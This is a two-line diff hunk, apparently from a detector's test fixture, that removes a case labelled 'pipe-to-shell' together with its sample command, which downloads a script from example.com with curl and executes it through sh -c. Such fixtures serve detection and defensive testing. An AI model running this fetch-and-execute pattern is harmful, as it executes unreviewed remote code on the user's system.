@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-sh -c "$(curl -fsSL https://example.com/x)"
